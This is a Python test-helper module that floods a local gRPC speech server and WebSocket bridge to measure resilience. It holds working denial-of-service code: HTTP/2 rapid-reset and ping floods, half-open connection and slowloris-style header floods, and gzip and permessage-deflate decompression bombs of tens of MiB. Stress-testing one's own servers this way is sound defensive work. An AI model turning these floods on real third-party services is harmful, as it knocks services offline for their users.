"""Peers that flood a server, without a library that would keep them from it.

As a script, `floods.py KIND PORT SECONDS PACE`: does what the flood does, so often a second at
most, and prints how often. Port 0 is a listener of its own that swallows all: what the flood takes
of the machine, whatever a server makes of it.
"""

from __future__ import annotations

import asyncio
import base64
import os
import resource
import selectors
import socket
import struct
import sys
import threading
import time
import zlib
from collections import deque
from collections.abc import Callable, Iterator
from contextlib import suppress
from functools import cache

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
PATH = b"/sori.v1.SpeechService/StreamingRecognize"
DATA, HEADERS, RST_STREAM, SETTINGS, PING = 0, 1, 3, 4, 6
ACK = 1
END_STREAM = 1
END_HEADERS = 4
CANCEL = 8
LAST_STREAM = 2**31 - 1
PIECE = 16_384
"""Bytes of a frame of HTTP/2, at most."""


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """A frame of HTTP/2."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _literal(index: int, value: bytes) -> bytes:
    """A header of the static table with another value, not indexed (RFC 7541, 6.2.2)."""
    name = bytes([index]) if index < 15 else bytes([15, index - 15])
    return name + bytes([len(value)]) + value


def call_of(path: bytes) -> bytes:
    """The headers of a call."""
    return (
        b"\x83\x86"  # POST, http
        + _literal(4, path)
        + _literal(1, b"localhost")
        + _literal(31, b"application/grpc")
        + b"\x00\x02te\x08trailers"
    )


CALL = call_of(PATH)
GZIP = b"\x00\x0dgrpc-encoding\x04gzip"
OPENING = PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0)


def opened(port: int) -> socket.socket:
    """A connection of HTTP/2 with nothing on it yet."""
    connection = socket.create_connection(("127.0.0.1", port), timeout=2.0)
    connection.sendall(OPENING)
    return connection


def swallow(connection: socket.socket) -> bool:
    """Read what is there; whether the other end is still open."""
    connection.setblocking(False)
    try:
        while connection.recv(65_536):
            pass
    except BlockingIOError:
        connection.settimeout(2.0)
        return True
    except OSError:
        return False
    return False


# --------------------------------------------------------------------------- what peers do


def resets(first: int, count: int) -> bytes:
    """So many calls from this stream on, each taken back at once."""
    code = struct.pack(">I", CANCEL)
    return b"".join(
        frame(HEADERS, END_HEADERS, stream, CALL) + frame(RST_STREAM, 0, stream, code)
        for stream in range(first, first + 2 * count, 2)
    )


def rapid_reset(port: int, at_a_time: int = 100) -> Iterator[int]:
    """Open calls and take them back at once, on connections that are made anew when they end.

    Yields:
        How many were sent.
    """
    while True:
        with suppress(OSError), opened(port) as connection:
            for stream in range(1, LAST_STREAM - 2 * at_a_time, 2 * at_a_time):
                connection.sendall(resets(stream, at_a_time))
                yield at_a_time
                if not swallow(connection):
                    break


def pings(port: int, at_a_time: int = 100) -> Iterator[int]:
    """Ping without end; yields how many were sent."""
    while True:
        with suppress(OSError), opened(port) as connection:
            while swallow(connection):
                connection.sendall(frame(PING, 0, 0, bytes(8)) * at_a_time)
                yield at_a_time


def handshakes(port: int, begin: bytes = PREFACE[:10], at_a_time: int = 250) -> Iterator[int]:
    """Begin handshakes and leave them; so many wait at a time, the oldest end for new ones."""
    waiting: deque[socket.socket] = deque()
    try:
        while True:
            with suppress(OSError):
                connection = socket.create_connection(("127.0.0.1", port), timeout=2.0)
                connection.send(begin)
                waiting.append(connection)
            if len(waiting) > at_a_time:
                waiting.popleft().close()
            yield 1
    finally:
        for connection in waiting:
            connection.close()


def bombs(port: int, size: int) -> Iterator[int]:
    """Send compressed messages that are so large unpacked, each on a connection of its own."""
    message = bomb(size)
    pieces = [message[start : start + PIECE] for start in range(0, len(message), PIECE)]
    while True:
        with suppress(OSError), opened(port) as connection:
            connection.sendall(frame(HEADERS, END_HEADERS, 1, CALL + GZIP))
            for piece in pieces:
                connection.sendall(frame(DATA, 0, 1, piece))
            connection.recv(65_536)
        yield 1


def websocket_bombs(port: int, size: int) -> Iterator[int]:
    """Ask for compression and send frames that are so large inflated."""
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = deflate.compress(bytes(size)) + deflate.flush(zlib.Z_SYNC_FLUSH)
    masked = b"\xc2" + bytes([0x80 | 127]) + struct.pack(">Q", len(packed[:-4])) + bytes(4)
    while True:
        with suppress(OSError):
            connection = socket.create_connection(("127.0.0.1", port), timeout=2.0)
            with connection:
                connection.sendall(upgrade(b"permessage-deflate"))
                connection.recv(65_536)
                connection.sendall(masked + packed[:-4])
                connection.recv(65_536)
        yield 1


def upgrade(extension: bytes = b"") -> bytes:
    """A request for a WebSocket of `/v1/stream`."""
    key = base64.b64encode(os.urandom(16))
    offered = b"Sec-WebSocket-Extensions: " + extension + b"\r\n" if extension else b""
    return (
        b"GET /v1/stream HTTP/1.1\r\nHost: 127.0.0.1\r\nUpgrade: websocket\r\n"
        b"Connection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: "
        + key
        + b"\r\n"
        + offered
        + b"\r\n"
    )


@cache
def bomb(size: int) -> bytes:
    """A compressed message of gRPC, framed, with so many zeros of audio."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, 31)
    head = _field(2, _length(1, size))  # request.audio.data
    block = bytes(1 << 20)
    parts = [compressor.compress(head)]
    parts += [compressor.compress(block) for _ in range(size >> 20)]
    packed = b"".join([*parts, compressor.flush()])
    return b"\x01" + struct.pack(">I", len(packed)) + packed


def _length(number: int, size: int) -> tuple[bytes, int]:
    """The head of a field of bytes, and what it and its bytes take."""
    head = bytes([number << 3 | 2]) + _varint(size)
    return head, len(head) + size


def _field(number: int, inner: tuple[bytes, int]) -> bytes:
    return bytes([number << 3 | 2]) + _varint(inner[1]) + inner[0]


def _varint(value: int) -> bytes:
    out = bytearray()
    while value > 127:
        out.append(value & 127 | 128)
        value >>= 7
    return bytes([*out, value])


# ------------------------------------------------------------------------------ as a script


MIB = 1 << 20
GRPC_FLOODS: dict[str, Callable[[int], Iterator[int]]] = {
    "rapid reset": rapid_reset,
    "pings": pings,
    "handshakes": handshakes,
    "connections": lambda port: handshakes(port, OPENING, at_a_time=3_000),
    "gzip bombs of 48 MiB": lambda port: bombs(port, 48 * MIB),
    "gzip bombs of 3 MiB": lambda port: bombs(port, 3 * MIB),
}
BRIDGE_FLOODS: dict[str, Callable[[int], Iterator[int]]] = {
    "HTTP heads that do not end": lambda port: handshakes(port, b"GET / HTTP/1.1\r\nHost:"),
    "deflate bombs": lambda port: websocket_bombs(port, 64 * MIB),
}
FLOODS = GRPC_FLOODS | BRIDGE_FLOODS


def flood(kind: str, port: int, seconds: float, pace: float) -> int:
    """Do it for so long, at most so often a second; how often it was done."""
    done, begun = 0, time.monotonic()
    for count in FLOODS[kind](port):
        done += count
        if (now := time.monotonic() - begun) >= seconds:
            break
        time.sleep(max(done / pace - now, 0.0))
    return done


def sink() -> int:
    """A listener that takes all that comes and says little, in a thread; its port."""
    listener = socket.create_server(("127.0.0.1", 0), backlog=1_000)
    threading.Thread(target=_take_all, args=(listener,), daemon=True).start()
    port: int = listener.getsockname()[1]
    return port


def _take_all(listener: socket.socket) -> None:
    with selectors.DefaultSelector() as selector:
        selector.register(listener, selectors.EVENT_READ)
        while True:
            for key, _ in selector.select():
                there = key.fileobj
                assert isinstance(there, socket.socket)
                if there is listener:
                    selector.register(listener.accept()[0], selectors.EVENT_READ)
                elif not _answered(there):
                    selector.unregister(there)
                    there.close()


def _answered(connection: socket.socket) -> bool:
    with suppress(OSError):
        return bool(connection.recv(65_536)) and bool(connection.send(b"."))
    return False


def _main(kind: str, port: str, seconds: str, pace: str) -> None:
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    print(flood(kind, int(port) or sink(), float(seconds), float(pace)), flush=True)


async def flood_process(kind: str, port: int, seconds: float, pace: float) -> int:
    """Flood from a process of its own; how often it did what it does."""
    process = await asyncio.create_subprocess_exec(
        *(sys.executable, __file__, kind, str(port), str(seconds), str(pace)),
        stdout=asyncio.subprocess.PIPE,
    )
    out, _ = await process.communicate()
    return int(out)


if __name__ == "__main__":
    _main(*sys.argv[1:])
